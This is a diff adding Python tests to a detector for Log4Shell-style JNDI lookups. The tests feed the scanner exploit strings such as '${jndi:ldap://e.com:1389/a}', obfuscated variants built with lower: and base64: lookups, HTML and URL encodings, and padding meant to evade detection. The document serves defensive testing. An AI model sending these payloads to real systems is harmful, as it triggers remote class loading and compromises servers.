@@ -11,7 +11,11 @@ from hypothesis import strategies as st
 
 from clearinghouse.scan.lookups import (
     _BACKSLASH,
+    MAX_DEPTH,
+    JndiPayload,
     _backslash,
+    _Expander,
+    _unterminated,
     describe,
     expand,
     jndi_payloads,
@@ -145,3 +149,114 @@ def test_decimal_references_of_any_length_decode_as_html_does(text: str, decoded
     # html.unescape alone raises ValueError past 4,300 digits (int's limit), which stopped
     # the scan of the rest of the file: one line could hide every attempt after it.
     assert normalise(text) == decoded
+
+
+# --- every lookup of a line, however far in -------------------------------------------------
+
+
+def test_a_lookup_behind_a_decoy_and_more_padding_than_the_old_window_is_read() -> None:
+    # Before: only 8,192 characters after the first candidate were decoded.
+    line = "GET /?q=${x}" + " " * 9000 + "${jndi:ldap://e.com:1389/a} HTTP/1.1"
+    ((ordinal, payload),) = jndi_payloads(line)
+    assert ordinal == 1
+    assert (payload.protocol, payload.host, payload.port) == ("ldap", "e.com", 1389)
+
+
+def test_an_escape_behind_a_longer_run_of_backslashes_than_the_old_window_is_read() -> None:
+    ((ordinal, payload),) = jndi_payloads("\\" * 9000 + "u0024{jndi:rmi://e.com/a}")
+    assert (ordinal, payload.decoded) == (0, "${jndi:rmi://e.com/a}")
+
+
+def test_a_megabyte_of_unclosed_lookups_is_expanded_in_one_pass() -> None:
+    # Each of the 200 open levels joined the rest of the text when it ran out (200 copies of
+    # it), and a lookup was looked for again after each "${"; now one join, one pass.
+    flood = "${" * 512 * 1024
+    started = time.perf_counter()
+    value, found = expand(flood)
+    assert (value, found) == (flood, [])
+    assert hosts(flood + "${jndi:ldap://e.com/a}") == ["e.com"]
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+
+
+# The decoder before it read whole lines, kept as the definition the new one must agree with on
+# text the old window held whole: recursive expansion, one level per "${"; every lookup
+# expanded twice when it named no JNDI; ordinals counted from the start each time.
+class FormerExpander(_Expander):
+    def expand_at(self, text: str, start: int, depth: int = 0) -> tuple[str, int]:
+        parts: list[str] = []
+        index = start + 2
+        while True:
+            special = re.compile(r"\$\{|\}").search(text, index)
+            if special is None:
+                parts.append(text[index:])
+                return "${" + "".join(parts), len(text)
+            parts.append(text[index : special.start()])
+            if special.group() == "}":
+                return self.evaluate("".join(parts)), special.end()
+            if depth >= MAX_DEPTH:
+                parts.append("${")
+                index = special.end()
+                continue
+            value, index = self.expand_at(text, special.start(), depth + 1)
+            parts.append(value)
+
+
+def former_expand(text: str) -> tuple[str, list[str]]:
+    expander = FormerExpander()
+    out: list[str] = []
+    index = 0
+    while (start := text.find("${", index)) >= 0:
+        out.append(text[index:start])
+        value, index = expander.expand_at(text, start)
+        out.append(value)
+    out.append(text[index:])
+    return "".join(out), expander.found
+
+
+def former_jndi_payloads(text: str) -> list[tuple[int, JndiPayload]]:
+    normal = normalise(text[:8192])
+    found: list[tuple[int, JndiPayload]] = []
+    seen: set[str] = set()
+    index = normal.find("${")
+    while index >= 0:
+        expander = FormerExpander()
+        resolved, end = expander.expand_at(normal, index)
+        names = list(expander.found)
+        if not names:
+            again, more = former_expand(resolved)
+            names = more or _unterminated(again)
+        ordinal = normal.count("${", 0, index)
+        for name in names:
+            if name not in seen:
+                seen.add(name)
+                found.append((ordinal, describe(name)))
+        index = normal.find("${", max(end, index + 2))
+    return found
+
+
+# Lookup-shaped text: openings and closings (plain and encoded), prefixes that are evaluated,
+# defaults, JNDI names, and the plain text between them.
+LOOKUP_PIECES = st.sampled_from(
+    [
+        *("${", "${", "}", "}", "%24%7B", "\\u0024{", "&#36;&#123;", "%7D", ":", ":-", "::-"),
+        *("jndi:", "JnDi:", "j", "ndi", "lower:", "upper:", "date:'j'", "env:X:-", "base64:"),
+        *("JHtqbmRpOmxkYXA6Ly9lLmNvbS9hfQ==", "ldap://", "e.com", "/a", " ", "x", "$", "{", "'"),
+        *("BaSe64:", "JNDI", "jnd\u0130", "\u017f", "\u0130", "\u212a", "\t"),
+    ]
+)
+
+
+@settings(max_examples=1000, database=None)
+@given(st.lists(LOOKUP_PIECES, max_size=60).map("".join))
+def test_the_whole_line_decoder_agrees_with_the_former_one_on_short_text(text: str) -> None:
+    assert jndi_payloads(text) == former_jndi_payloads(text)
+
+
+def test_the_whole_line_decoder_agrees_with_the_former_one_at_the_depth_bound() -> None:
+    for depth in (MAX_DEPTH - 1, MAX_DEPTH, MAX_DEPTH + 1, MAX_DEPTH + 5):
+        for tail in ("${jndi:ldap://e.com/a}", "${${lower:j}ndi:ldap://e.com/a}}", "x}}}"):
+            for opening in ("${", "${a:-", "${lower:"):
+                text = opening * depth + tail + "}" * (depth // 2)
+                assert expand(text) == former_expand(text), (depth, tail, opening)
+                assert jndi_payloads(text) == former_jndi_payloads(text), (depth, tail, opening)
